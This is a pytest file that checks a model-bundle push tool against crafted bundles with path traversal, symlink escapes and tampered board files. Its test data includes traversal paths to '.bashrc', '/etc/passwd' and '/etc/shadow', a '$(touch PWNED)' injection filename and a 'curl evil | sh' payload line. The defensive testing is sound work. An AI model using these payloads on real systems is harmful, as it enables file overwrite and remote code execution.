"""Issue 18: crafted bundles write nothing outside the bundle folder (locally, on the simulator board and
on the real-sshd EVK test board), every refusal names the entry and the rule; a file changed on the board
after a push is found (sha256 computed on the board) and sent again by the next push and by the Board
stage; a local file missing is a local file error, not a dropped connection."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from hexstudio.core.device.board import open_board, sim_board
from hexstudio.core.device.errors import LocalBundleError, UnsafeBundle
from hexstudio.core.device.push import push_bundle
from hexstudio.core.device.verify import verify_pushed
from hexstudio.shared.bundle import safepath, verify_bundle
from hexstudio.shared.data import builtin_model_dir, package_path
from tests.board.conftest import settings_with
from tests.support.evk_board import EvkBoard, make_device_bundle

REPO = Path(__file__).resolve().parents[2]
FACTS = {
    "dsp_arch": "v73",
    "qairt_version": "2.45.0.260326",
    "mem_total_bytes": 16 << 30,
    "mem_available_bytes": 12 << 30,
}

# (path, words the refusal must hold)
BAD_PATHS = [
    ("../.bashrc", "'..'"),
    ("../../.bashrc", "'..'"),
    ("sim/../../x", "'..'"),
    ("/etc/passwd", "absolute"),
    ("~/.bashrc", "absolute"),
    ("C:/Windows/x", "drive letter"),
    ("sim\\..\\x", "backslash"),
    ("a//b", "empty"),
    ("./a", "'.'"),
    ("", "empty"),
    ("-rf", "starts with '-'"),
    ("a b", "safe set"),
    ("$(touch PWNED)", "safe set"),
    ("x;y", "safe set"),
    ("ünï", "safe set"),
    ("a\x00b", "NUL"),
    ("x" * 300, "longer than"),
    ("/".join(["d"] * 20), "deeper"),
]
GOOD_PATHS = [
    "genie_config.json",
    "sim/prompt_ar128_cl512_1_of_2.onnx",
    "sim/p.onnx.data",
    "weight_sharing_model_1_of_5.serialized.bin",
    ".hidden-ok",
    "a+b-c_d.e",
]


@pytest.mark.parametrize(("path", "why"), BAD_PATHS)
def test_safepath_refuses_and_says_why(path: str, why: str) -> None:
    with pytest.raises(safepath.UnsafePath) as ei:
        safepath.check_relative(path, "bundle.json files[7]")
    assert "bundle.json files[7]" in str(ei.value) and why in str(ei.value), str(ei.value)
    assert ei.value.hint


@pytest.mark.parametrize("path", GOOD_PATHS)
def test_safepath_accepts_real_bundle_paths(path: str, tmp_path: Path) -> None:
    assert safepath.check_relative(path) == path
    assert safepath.resolve_under(tmp_path, path) == (tmp_path / path).resolve()


def test_safepath_refuses_a_symlink_that_leaves_the_folder(tmp_path: Path) -> None:
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "sim").symlink_to(tmp_path)
    with pytest.raises(safepath.UnsafePath, match="symbolic link"):
        safepath.resolve_under(tmp_path / "b", "sim/secret", "graphs.json graphs[0].sim_onnx")


def _entry(path: str, data: bytes) -> dict[str, Any]:
    return {"path": path, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}


def sim_bundle(path: Path, extra: list[dict[str, Any]] | None = None, size: int = 64 << 10) -> Path:
    """A small simulation bundle (genie_config, tokenizer, two graph files) + `extra` raw bundle.json entries."""
    path.mkdir(parents=True, exist_ok=True)
    files = {
        "genie_config.json": b'{"dialog": {}}',
        "tokenizer.json": b"{}",
        "sim/a.onnx": os.urandom(size),
        "sim/a.onnx.data": os.urandom(size + 1),
    }
    entries = []
    for rel, data in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_bytes(data)
        entries.append(_entry(rel, data))
    doc = {
        "bundle_version": 1,
        "model": "t",
        "simulated": True,
        "emulated": False,
        "files": entries + (extra or []),
    }
    (path / "bundle.json").write_text(json.dumps(doc))
    return path


def _tree(root: Path, skip: Path | None = None) -> dict[str, tuple[int, float]]:
    out = {}
    for p in root.rglob("*"):
        if skip is not None and (p == skip or skip in p.parents):
            continue
        if p.is_file() or p.is_symlink():
            st = p.lstat()
            out[str(p)] = (st.st_size, st.st_mtime)
    return out


CRAFTED = ["../../.bashrc", "../escape.txt", "/tmp/hexstudio-abs-escape", "sim/../../../x"]


@pytest.mark.parametrize("evil", CRAFTED)
def test_crafted_bundle_is_refused_by_the_simulator_board_push(tmp_path: Path, evil: str) -> None:
    data = b"echo PWNED\n"
    bundle = sim_bundle(tmp_path / "bundle", [_entry(evil, data)])
    ws = tmp_path / "ws"
    board = sim_board(ws)
    before = _tree(tmp_path, skip=tmp_path / "bundle")
    with pytest.raises(UnsafeBundle) as ei:
        asyncio.run(push_bundle(board, bundle, "crafted"))
    msg = ei.value.message
    assert "bundle.json files[4]" in msg and repr(evil) in msg, msg
    assert "Nothing was read or written" in msg and ei.value.hint
    assert _tree(tmp_path, skip=tmp_path / "bundle") == before  # nothing written anywhere
    assert not Path("/tmp/hexstudio-abs-escape").exists()
    assert not (ws / "sim-board" / "home" / "hexstudio" / "bundles" / "crafted").exists()


def test_a_symlink_in_the_local_bundle_is_not_followed_out(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("ssh key")
    bundle = sim_bundle(tmp_path / "bundle")
    (bundle / "leak.txt").symlink_to(secret)
    doc = json.loads((bundle / "bundle.json").read_text())
    doc["files"].append(_entry("leak.txt", b"ssh key"))
    (bundle / "bundle.json").write_text(json.dumps(doc))
    with pytest.raises(UnsafeBundle, match=r"files\[4\].*symbolic link"):
        asyncio.run(push_bundle(sim_board(tmp_path / "ws"), bundle, "leak"))
    assert not list((tmp_path / "ws").rglob("leak.txt"))


def test_bundle_verify_refuses_crafted_paths(tmp_path: Path) -> None:
    bundle = sim_bundle(tmp_path / "bundle", [_entry("../../.bashrc", b"x")])
    problems = verify_bundle(bundle)
    assert len(problems) == 1 and "files[4]" in problems[0] and "'..'" in problems[0]
    r = subprocess.run(
        [sys.executable, "-m", "hexstudio", "bundle", "verify", str(bundle), "--json"],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=60,
    )
    doc = json.loads(r.stdout)
    assert r.returncode == 1 and not doc["ok"] and "refused path" in doc["problems"][0]


def test_report_lists_crafted_entries_as_refused() -> None:
    from hexstudio.core.reports.collect import _bundle_files

    doc = {
        "files": [
            _entry("genie_config.json", b"{}"),
            _entry("../../.bashrc", b"x"),
            {"path": "ok.bin", "sha256": 5, "size": "big"},
        ]
    }
    out = _bundle_files(doc)
    assert [f["path"] for f in out["files"]] == ["genie_config.json"]
    assert "files[1]" in out["problems"][0] and "'..'" in out["problems"][0]
    assert "files[2]" in out["problems"][1] and "sha256" in out["problems"][1]


@pytest.mark.parametrize(
    ("field", "value", "entry"),
    [
        ("tokenizer", "../../../etc/passwd", "dialog.tokenizer.path"),
        ("ctx-bins", ["/etc/shadow"], "ctx-bins[0]"),
        ("ctx-bins", ["ok.bin", "sim/../../x.bin"], "ctx-bins[1]"),
        ("ctx-bins", ["sim/../../../../../../etc/shadow"], "ctx-bins[0]"),
    ],
)
def test_the_simulator_runner_and_the_board_helper_refuse_crafted_configs(
    tmp_path: Path, field: str, value: Any, entry: str
) -> None:
    import hexstudio.shared.bundle as gb

    bundle = tmp_path / "bundle"
    bundle.mkdir()
    hf = json.loads((builtin_model_dir() / "config.json").read_text())
    cfg: dict[str, Any] = gb.genie_config(
        hf, 512, ["sim/a.onnx"], 64, simulated=True
    )  # passes Genie's schema
    graphs = {"graphs": [{"name": "g", "sim_onnx": "sim/a.onnx"}]}
    if field == "tokenizer":
        cfg["dialog"]["tokenizer"]["path"] = value
    elif field == "ctx-bins":
        cfg["dialog"]["engine"]["model"]["binary"]["ctx-bins"] = value
    else:
        graphs["graphs"][0]["sim_onnx"] = value
    (bundle / "genie_config.json").write_text(json.dumps(cfg))
    (bundle / "graphs.json").write_text(json.dumps(graphs))
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "hexstudio.workers.genie_sim.t2t",
            "-c",
            str(bundle / "genie_config.json"),
            "-p",
            "hi",
        ],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )
    out = r.stdout + r.stderr
    assert r.returncode == 1 and "refused path" in out and entry in out, out
    if field != "graphs":  # the board helper reads genie_config.json only
        h = subprocess.run(
            [
                sys.executable,
                str(package_path("hexstudio.workers.board", "genie_session.py")),
                "--config",
                str(bundle / "genie_config.json"),
                "--lib",
                "/nonexistent/libGenie.so",
            ],
            capture_output=True,
            text=True,
            timeout=60,
            stdin=subprocess.DEVNULL,
        )
        ev = json.loads(h.stdout.splitlines()[0])
        assert h.returncode == 2 and ev["code"] == "unsafe_path" and entry in ev["message"], h.stdout


def test_a_missing_local_file_is_a_local_file_error(tmp_path: Path) -> None:
    bundle = sim_bundle(tmp_path / "bundle")
    (bundle / "sim" / "a.onnx.data").unlink()
    with pytest.raises(LocalBundleError) as ei:
        asyncio.run(push_bundle(sim_board(tmp_path / "ws"), bundle, "missing"))
    msg = ei.value.message
    assert "sim/a.onnx.data" in msg and "missing" in msg and "dropped" not in msg and "connection" in msg
    assert "Compile" in (ei.value.hint or "") and "power" not in (ei.value.hint or "")


def _flip(path: Path, offset: int = 100) -> None:
    with open(path, "r+b") as fh:
        fh.seek(offset)
        b = fh.read(1)
        fh.seek(offset)
        fh.write(bytes([b[0] ^ 0xFF]))


def test_a_byte_flipped_on_the_simulator_board_is_found_and_resent(tmp_path: Path) -> None:
    bundle = sim_bundle(tmp_path / "bundle")
    board = sim_board(tmp_path / "ws")
    first = asyncio.run(push_bundle(board, bundle, "flip"))
    assert first.verified == "sha256" and not first.resent
    remote = Path(first.remote_dir)
    again = asyncio.run(push_bundle(board, bundle, "flip"))
    assert again.sent_files == 0 and again.verified == "size" and not again.resent
    _flip(remote / "sim" / "a.onnx")
    assert [b["path"] for b in asyncio.run(verify_pushed(board, bundle, "flip"))] == ["sim/a.onnx"]
    res = asyncio.run(push_bundle(board, bundle, "flip"))  # a plain push: the file's ctime changed
    assert [r["path"] for r in res.resent] == ["sim/a.onnx"] and "sha256" in res.resent[0]["why"]
    assert any("sent again" in w for w in res.warnings)
    assert (remote / "sim" / "a.onnx").read_bytes() == (bundle / "sim" / "a.onnx").read_bytes()
    # truncated: found by size
    with open(remote / "sim" / "a.onnx.data", "r+b") as fh:
        fh.truncate(10)
    res = asyncio.run(push_bundle(board, bundle, "flip"))
    assert [r["path"] for r in res.resent] == ["sim/a.onnx.data"] and "bytes on the board" in res.resent[0][
        "why"
    ]
    assert asyncio.run(verify_pushed(board, bundle, "flip")) == []


@pytest.fixture(scope="module")
def evk(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with EvkBoard(tmp_path_factory.mktemp("evk-crafted")) as b:
        yield b


def _board_tree(evk: EvkBoard) -> str:
    r = evk.root_run("find /home -xdev -printf '%p %s %T@\\n' 2>/dev/null | sort")
    return r.stdout


@pytest.mark.slow
def test_crafted_bundle_on_the_evk_board_writes_nothing_and_a_flip_is_resent(
    evk: EvkBoard, tmp_path: Path
) -> None:
    settings = settings_with("evk", evk.board_config())
    crafted = make_device_bundle(tmp_path / "crafted", part_bytes=4096)
    doc = json.loads((crafted / "bundle.json").read_text())
    doc["files"].append(_entry("../../../.bashrc", b"curl evil | sh\n"))
    (crafted / "bundle.json").write_text(json.dumps(doc))
    good = make_device_bundle(tmp_path / "good", part_bytes=256 * 1024)

    async def go() -> None:
        board = await open_board("evk", settings, trust=lambda *a: True)
        before = _board_tree(evk)
        with pytest.raises(UnsafeBundle) as ei:
            await push_bundle(board, crafted, "crafted", facts=FACTS)
        assert "'../../../.bashrc'" in ei.value.message and "'..'" in ei.value.message
        assert _board_tree(evk) == before  # nothing written on the board
        assert not await board.transport.exists(f"{await board.transport.home()}/.bashrc")
        res = await push_bundle(board, good, "good", facts=FACTS)
        assert res.verified == "sha256" and res.sent_files == 7
        time.sleep(0.05)
        path = f"{res.remote_dir}/evk_model_part_1_of_2.bin"
        # a byte flipped on the board, in place (same size)
        flip = evk.root_run(f"printf '\\377' | dd of={path} bs=1 seek=1000 conv=notrunc 2>/dev/null; echo ok")
        assert "ok" in flip.stdout
        assert [b["path"] for b in await verify_pushed(board, good, "good")] == ["evk_model_part_1_of_2.bin"]
        again = await push_bundle(board, good, "good", facts=FACTS)
        assert [r["path"] for r in again.resent] == ["evk_model_part_1_of_2.bin"]
        assert await verify_pushed(board, good, "good") == []
        await board.transport.close()

    asyncio.run(go())
